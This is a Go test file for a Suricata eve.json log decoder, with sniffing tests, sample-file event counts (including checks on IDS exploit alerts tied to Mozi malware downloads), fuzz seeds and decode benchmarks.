		"licence text":            {"LICENSE.txt", first("suricata-slips/LICENSE.txt"), 0},
		"pcap bytes":              {"x.pcap", [][]byte{{0xd4, 0xc3, 0xb2, 0xa1, 2, 0, 4, 0}}, 0},
		"Squid access.log":        {"access.log", [][]byte{[]byte(`1286536309.450 1119 192.168.0.68 TCP_MISS/200 507 GET http://www.google.com/ - DIRECT/74.125.224.80 text/html`)}, 0},
	}
	for name, tc := range tests {
		t.Run(name, func(t *testing.T) {
			if got := Format.Sniff(tc.path, tc.lines); got != tc.want {
				t.Errorf("Sniff = %d, want %d", got, tc.want)
			}
		})
	}
}

// decodeFile decodes a whole file and counts the events of each format.
func decodeFile(t *testing.T, path string) (map[string]int, []event.Event) {
	t.Helper()
	dec := Format.New(parse.Source{Path: path, Location: time.UTC})
	counts := map[string]int{}
	var evs []event.Event
	for i, l := range readLines(t, path) {
		var ev event.Event
		switch err := dec.Decode(l, &ev); {
		case err == nil:
			counts[ev.Format]++
			evs = append(evs, ev)
		case errors.Is(err, parse.ErrSkip):
			counts["skipped"]++
		default:
			counts["rejected"]++
			t.Errorf("%s:%d: %v", path, i+1, err)
		}
	}
	return counts, evs
}

func TestSamples(t *testing.T) {
	t.Run("Slips eve.json slice", func(t *testing.T) {
		counts, evs := decodeFile(t, filepath.Join(testdata, "suricata-slips/eve-slice.json"))
		want := map[string]int{"suricata.alert": 44, "suricata.dns": 40, "suricata.flow": 61, "suricata.http": 48, "suricata.tls": 1, "suricata.fileinfo": 1}
		if !reflect.DeepEqual(counts, want) {
			t.Errorf("counts %v, want %v", counts, want)
		}
		mozi, exploits := 0, 0
		for _, ev := range evs {
			if ev.Observer != "stratosphere.org" || ev.Time.Year() != 2021 {
				t.Errorf("event %+v", ev)
			}
			if strings.HasPrefix(ev.Signature, "ET EXPLOIT") {
				exploits++
				if strings.Contains(ev.URL, "Mozi.m") {
					mozi++
				}
			}
		}
		if exploits != 4 || mozi != 3 {
			t.Errorf("%d ET EXPLOIT alerts, %d with the Mozi download URL; want 4, 3", exploits, mozi)
		}
	})
	t.Run("guide examples", func(t *testing.T) {
		counts, _ := decodeFile(t, filepath.Join(testdata, "suricata-docs/eve-doc-examples.json"))
		want := map[string]int{"suricata.alert": 2, "suricata.anomaly": 3, "suricata.http": 3, "suricata.dns": 4, "suricata.tls": 1, "suricata.smb": 5, "suricata.flow": 1, "skipped": 1}
		if !reflect.DeepEqual(counts, want) {
			t.Errorf("counts %v, want %v", counts, want)
		}
	})
}

// TestSharedCorpus decodes the whole development sample when it is present
// (it is not in a fresh clone).
func TestSharedCorpus(t *testing.T) {
	const path = "/work/shared/data/suricata-slips/eve-part1.json"
	if _, err := os.Stat(path); err != nil {
		t.Skip("development data set not present")
	}
	counts, _ := decodeFile(t, path)
	want := map[string]int{"suricata.alert": 372, "suricata.dns": 344, "suricata.flow": 3512, "suricata.http": 48, "suricata.tls": 1, "suricata.fileinfo": 1}
	if !reflect.DeepEqual(counts, want) {
		t.Errorf("counts %v, want %v", counts, want)
	}
}

func FuzzDecode(f *testing.F) {
	for _, rel := range []string{"suricata-slips/eve-slice.json", "suricata-docs/eve-doc-examples.json"} {
		for i, l := range readLines(f, filepath.Join(testdata, rel)) {
			if i%5 == 0 || strings.Contains(rel, "docs") {
				f.Add(l)
			}
		}
	}
	f.Add([]byte(`{"timestamp":"2017-04-07T22:24:37Z","event_type":"dcerpc","dcerpc":{"request":"REQUEST","req":{"opnum":12},"interfaces":[{"uuid":"367abb81-9844-35f1-ad32-98f038001003"}]}}`))
	f.Add([]byte(`{"timestamp":"2017-04-07T22:24:37","event_type":"alert","alert":{"signature":"x CVE-2017-0144 cve_1999_0001","rule":"reference:cve,2017-0144; reference:url,a.b/c;"}}`))
	f.Fuzz(func(t *testing.T, line []byte) {
		var ev event.Event
		err := Format.New(parse.Source{Path: "eve.json"}).Decode(line, &ev)
		if err != nil {
			var rej *parse.Reject
			if !errors.Is(err, parse.ErrSkip) && !errors.As(err, &rej) {
				t.Fatalf("unexpected error type %T: %v", err, err)
			}
			return
		}
		if ev.Time.IsZero() || ev.Time.Location() != time.UTC || ev.Kind == event.KindUnknown || !strings.HasPrefix(ev.Format, "suricata.") {
			t.Fatalf("accepted event without time, kind or format: %+v", ev)
		}
		for _, s := range append([]string{ev.Signature, ev.URL, ev.Domain, ev.Query, ev.Observer, ev.Label, ev.Method, ev.Service, ev.FileName}, ev.Answers...) {
			if strings.ToValidUTF8(s, "\uFFFD") != s {
				t.Fatalf("invalid UTF-8 in %q", s)
			}
		}
	})
}

func BenchmarkDecode(b *testing.B) {
	lines := readLines(b, filepath.Join(testdata, "suricata-slips/eve-slice.json"))
	pick := func(eventType string) []byte {
		for _, l := range lines {
			if bytes.Contains(l, []byte(`"event_type":"`+eventType+`"`)) {
				return l
			}
		}
		b.Fatalf("no %s line", eventType)
		return nil
	}
	for _, et := range []string{"flow", "alert", "dns", "http"} {
		b.Run(et, func(b *testing.B) {
			line := pick(et)
			dec := Format.New(parse.Source{Path: "eve.json"})
			var ev event.Event
			b.SetBytes(int64(len(line)))
			b.ReportAllocs()
			for b.Loop() {
				ev = event.Event{}
				if err := dec.Decode(line, &ev); err != nil {
					b.Fatal(err)
				}
			}
		})
	}
}
